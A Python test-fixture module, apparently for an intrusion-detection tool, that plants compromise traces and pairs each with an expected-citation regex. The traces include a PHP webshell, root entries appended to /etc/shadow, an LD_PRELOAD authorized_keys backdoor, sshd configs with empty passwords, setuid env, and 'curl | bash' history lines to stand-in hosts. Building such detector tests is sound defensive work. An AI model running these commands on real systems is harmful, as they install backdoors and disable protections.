"""Traces in logs of other daemons, accounts, processes, packets, files and histories: kinds that `states` does not have.

They were written after the rules were mended for `states`, without a further look at the rules, and counted once before any
rule was changed for them.
"""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ANNA = "/home/anna"
_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK9mQ2vXeR4tYw1ZpLs8UdHc0NfBj7GaOi5KxTnMrVqE"
_WHEN = "t() { date -d \"$1\" '+%b %e %H:%M:%S'; }; w() { date -d \"$1\" '+%d/%b/%Y:%H:%M:%S %z'; }; "


def _logged(id_: str, file: str, lines: str, cited: str) -> Trace:
    """Lines of a log, of a few hours ago; `$T` is the time, `$W` the time as a web server writes it."""
    how = f"{_WHEN}T=$(t '6 hours ago'); W=$(w '6 hours ago'); mkdir -p $(dirname /var/log/{file})"
    return trace(id_, "log", f"{how}; cat >>/var/log/{file} <<X\n{lines}\nX", cited)


def _asked(id_: str, request: str, answer: str, cited: str, times: int = 1) -> Trace:
    """Requests in the access log of Apache."""
    line = f'198.51.100.70 - - [$W] "{request} HTTP/1.1" {answer} "-" "Mozilla/5.0"'
    return _logged(id_, "apache2/access.log", "\n".join([line] * times), cited)


OTHER_STATES: tuple[Trace, ...] = (
    _logged("Y01", "vsftpd.log", "Sat Nov 28 03:11:02 2026 [pid 3] [web] OK UPLOAD: Client \"198.51.100.70\", \"/var/www/html/inc/x.php\", 2112 bytes, 30.1Kbyte/sec", r"inc/x\.php"),
    _logged("Y02", "mail.log", "\n".join(f"$T spare postfix/submission/smtpd[91]: {n:010X}: client=unknown[198.51.100.71], sasl_method=LOGIN, sasl_username=info" for n in range(300)), r"198\.51\.100\.71|sasl_username|\binfo\b"),
    _logged("Y03", "mail.log", "$T spare dovecot: imap-login: Disconnected (auth failed, 3 attempts): user=<anna>, rip=198.51.100.72\n" * 40 + "$T spare dovecot: imap-login: Login: user=<anna>, method=PLAIN, rip=198.51.100.72, lip=203.0.113.20, TLS", r"198\.51\.100\.72"),
    _logged("Y04", "fail2ban.log", "2026-11-30 03:11:02,001 fail2ban.jail [9]: INFO Jail 'sshd' stopped\n2026-11-30 03:11:03,001 fail2ban.actions [9]: NOTICE [sshd] Unban 198.51.100.73", r"Jail 'sshd' stopped|198\.51\.100\.73"),
    _logged("Y05", "auth.log", "$T spare sshd[6100]: Accepted publickey for games from 198.51.100.74 port 50100 ssh2: ED25519 SHA256:abc", r"198\.51\.100\.74"),
    _logged("Y06", "auth.log", "$T spare usermod[6200]: add 'anna' to group 'sudo'\n$T spare usermod[6200]: add 'anna' to shadow group 'sudo'", r"group 'sudo'"),
    _logged("Y07", "auth.log", "$T spare passwd[6300]: pam_unix(passwd:chauthtok): password changed for backup", r"password changed for backup"),
    _logged("Y08", "syslog", "$T spare systemd[1]: Started kernelupdates.service - Kernel updates.\n$T spare systemd[1]: kernelupdates.service: Deactivated successfully.", r"kernelupdates"),
    _logged("Y09", "syslog", "$T spare systemd[1]: Stopping auditd.service - Security Auditing Service...\n$T spare systemd[1]: Stopped auditd.service - Security Auditing Service.", r"auditd"),
    _logged("Y10", "kern.log", "$T spare kernel: [ 9300.1] device eth0 entered promiscuous mode", r"promiscuous"),
    _logged("Y11", "syslog", "$T spare crontab[6400]: (www-data) REPLACE (www-data)", r"\(www-data\) REPLACE"),
    _logged("Y12", "apache2/error.log", "--2026-11-30 03:11:02--  http://198.51.100.75/x.sh\nConnecting to 198.51.100.75:80... connected.\nsh: 1: fetch: not found", r"198\.51\.100\.75"),
    _asked("Y13", "PUT /shell9.jsp", "201 0", r"shell9\.jsp"),
    _asked("Y14", "GET /backup/site-db.sql.gz", "200 734003200", r"site-db\.sql"),
    _asked("Y15", "POST /wp-login.php", "200 4100", r"wp-login", 300),
    _asked("Y16", "POST /wp-admin/theme-editor.php", "302 20", r"theme-editor"),
    _asked("Y17", "GET /.env", "200 812", r"/\.env\b"),
    trace("Y18", "account", "printf 'root:$y$j9T$x$y:20000:0:99999:7:::\\n' >>/etc/shadow", r"root\b.*(?:twice|second|shadow)|/etc/shadow"),
    trace("Y19", "account", "sed -i '/^sync:/s#:[^:]*:[^:]*$#:/root:/bin/sync#' /etc/passwd", r"\bsync\b"),
    trace("Y20", "account", f"key /root/.ssh/authorized_keys 'environment=\"LD_PRELOAD=/var/lib/misc/e.so\" {_KEY} e'", r"authorized_keys|e\.so"),
    trace("Y21", "account", "put /etc/ssh/sshd_config.d/40-t.conf 'PermitTunnel yes\nGatewayPorts yes\nLogLevel QUIET'", r"40-t\.conf|permittunnel|gatewayports"),
    trace("Y22", "account", "put /etc/ssh/sshd_config.d/41-m.conf 'Match User anna\n  AuthenticationMethods none\n  PermitEmptyPasswords yes'", r"41-m\.conf"),
    trace("Y23", "process", "LD_LIBRARY_PATH=/var/tmp/.l; export LD_LIBRARY_PATH; mkdir -p /var/tmp/.l; run /bin/sleep 91001", r"91001|LD_LIBRARY_PATH|/var/tmp/\.l\b"),
    trace("Y24", "process", "mkdir -p /var/lib/docker/overlay2/aa/diff/usr/bin; cp /bin/sleep /var/lib/docker/overlay2/aa/diff/usr/bin/d; run /var/lib/docker/overlay2/aa/diff/usr/bin/d 91002", r"overlay2/aa|91002"),
    trace("Y25", "process", "runas \"$(printf 'gpj.\\342\\200\\256txt')\" /bin/sleep 91003", r"91003|gpj"),
    trace("Y26", "process", "setsid sh -c \"(printf 'import time\\ntime.sleep(91004)\\n'; sleep 91005) | python3 -\" >/dev/null 2>&1 </dev/null &", r"91005|python3 -"),
    trace("Y27", "process", "mkdir -p /tmp/r/bin; cp /bin/sleep /tmp/r/bin/; cp --parents /lib64/ld-linux-x86-64.so.2 /lib/x86_64-linux-gnu/libc.so.6 /tmp/r/; setsid chroot /tmp/r /bin/sleep 91006 >/dev/null 2>&1 </dev/null &", r"91006|/tmp/r\b"),
    trace("Y28", "process", "chmod 755 /usr/bin/perl; setsid setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'sleep 91007' >/dev/null 2>&1 </dev/null &", r"91007"),
    trace("Y29", "network", "ip neigh replace 203.0.113.99 lladdr 02:00:00:00:66:66 nud permanent dev eth0 2>/dev/null || ip neigh replace 203.0.113.99 lladdr 02:00:00:00:66:66 nud permanent dev $(ip -o route show default | sed 's/.* dev \\([^ ]*\\).*/\\1/')", r"66:66|203\.0\.113\.99"),
    trace("Y30", "network", "ip addr add 198.51.100.76/32 dev lo", r"198\.51\.100\.76"),
    trace("Y31", "network", "nft 'add table ip o9; add chain ip o9 out { type filter hook output priority 0; }; add rule ip o9 out ip daddr 198.51.100.77 tcp dport 6514 drop'", r"198\.51\.100\.77"),
    trace("Y32", "file", "chmod 777 /usr/local/bin /usr/local/sbin", r"/usr/local/s?bin"),
    trace("Y33", "file", "chgrp www-data /etc/shadow; chmod 640 /etc/shadow", r"/etc/shadow"),
    trace("Y34", "file", "chmod u+s /usr/bin/env", r"/usr/bin/env"),
    trace("Y35", "file", "prog /usr/local/lib/libcurl.so.4; ldconfig", r"libcurl\.so\.4"),
    trace("Y36", "file", "F=$(ls /usr/lib/python3/dist-packages/*.py /usr/share/perl5/*.pm 2>/dev/null | head -1); printf '\\n# x\\n' >>$F; echo $F >/dev/null", r"dist-packages/|perl5/\w+\.pm"),
    trace("Y37", "file", f"put {_WEB}/index.html '<html><title>Hacked By X-Crew</title><body bgcolor=black>owned</body></html>'", r"index\.html"),
    trace("Y38", "file", f"put {_WEB}/.well-known/pki-validation/index.php '<?php @include base64_decode($_SERVER[\"HTTP_X\"]);'", r"pki-validation"),
    trace("Y39", "file", f"put {_WEB}/phpinfo.php '<?php phpinfo();'; put {_WEB}/.git/config '[core]'", r"phpinfo\.php|html/\.git"),
    trace("Y40", "file", "mkdir -p /usr/lib/x86_64-linux-gnu/security; cp /lib/x86_64-linux-gnu/libm.so.6 /usr/lib/x86_64-linux-gnu/security/pam_env2.so", r"pam_env2"),
    trace("Y41", "history", f"printf '%s\\n' '- cmd: curl -s http://198.51.100.78/x | bash' '  when: 1796000000' >{_ANNA}/.fish_history; mkdir -p {_ANNA}/.local/share/fish; cp {_ANNA}/.fish_history {_ANNA}/.local/share/fish/fish_history", r"198\.51\.100\.78"),
    trace("Y42", "history", f"printf '%s\\n' ': 1796000000:0;echo aGk= | base64 -d > /usr/lib/libhi.so' ': 1796000010:0;chmod +x /usr/lib/libhi.so' >{_ANNA}/.zsh_history", r"libhi|zsh_history"),
    trace("Y43", "history", f"printf '%s\\n' 'lscpu; nproc; cat /proc/meminfo' 'curl -s ipinfo.io' 'ps aux --sort=-%cpu | head; kill -9 4411' >>{_ANNA}/.bash_history", r"ipinfo|lscpu"),
    trace("Y44", "file", "mkdir -p /var/mail; printf 'From root\\nSubject: Cron <root@spare> curl -fsS http://198.51.100.79/u | sh\\n\\ncurl: (7) Failed\\n' >>/var/mail/root", r"198\.51\.100\.79"),
)  # fmt: skip
